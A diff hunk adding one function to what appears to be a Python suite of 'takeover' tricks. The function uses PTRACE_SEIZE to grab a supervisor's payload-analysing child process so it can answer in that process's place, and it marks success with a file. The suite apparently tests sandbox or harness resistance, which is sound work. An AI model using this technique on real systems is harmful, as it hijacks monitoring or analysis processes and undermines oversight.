@@ -251,6 +251,27 @@ def stolen():
                 yield found
 
 
+@trick("takeover", "PTRACE_SEIZE of the process that analyses payloads, from its first moment on")
+def seize_helper():
+    libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
+    on, seized = True, []
+
+    def again():
+        while on and not seized:
+            for name in Path(f"/proc/{SUPERVISOR}/task/{SUPERVISOR}/children").read_text().split():
+                if int(name) != MAIN and libc.ptrace(0x4206, int(name), None, None) == 0:
+                    seized.append(name)
+
+    thread = threading.Thread(target=again)
+    thread.start()
+    for _ in range(3):
+        mark()
+    on = False
+    thread.join()
+    if seized:
+        Path("MARK").touch()  # whoever traces it can answer in its place
+
+
 @trick("takeover", "pidfd_getfd(2) of the listener, and answer in its place")
 def steal_listener():
     for found in stolen():
